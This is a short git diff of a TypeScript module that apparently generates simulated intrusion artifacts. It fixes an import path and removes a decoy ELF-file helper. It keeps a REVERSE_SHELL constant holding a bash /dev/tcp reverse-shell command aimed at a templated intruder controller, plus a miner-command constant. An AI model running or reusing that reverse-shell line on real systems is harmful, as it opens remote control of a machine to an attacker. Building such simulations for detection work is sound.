@@ -1,4 +1,4 @@
-import type { Random } from '../random.js';
+import type { Random } from '../../simulation/random.js';
 import type { Timeline } from '../timeline.js';
 import type { TreeDraft } from './draft.js';
 
@@ -60,13 +60,3 @@ export const MINER_COMMAND = [
 ] as const;
 
 export const REVERSE_SHELL = `/bin/bash -c 'bash -i >& /dev/tcp/${INTRUDER.controller}/${INTRUDER.shellPort} 0>&1'`;
-
-/** An ELF executable as far as `file` and strings go; it runs nowhere. */
-export function fakeElf(random: Random, texts: readonly string[], sizeBytes: number): Buffer {
-  const header = Buffer.from('7f454c4602010100000000000000000003003e0001000000', 'hex');
-  const strings = Buffer.from(
-    `\0${['/lib64/ld-linux-x86-64.so.2', 'GCC: (Debian 12.2.0-14) 12.2.0', ...texts].join('\0')}\0`,
-  );
-  const filler = random.bytes(Math.max(0, sizeBytes - header.length - strings.length));
-  return Buffer.concat([header, strings, filler]);
-}
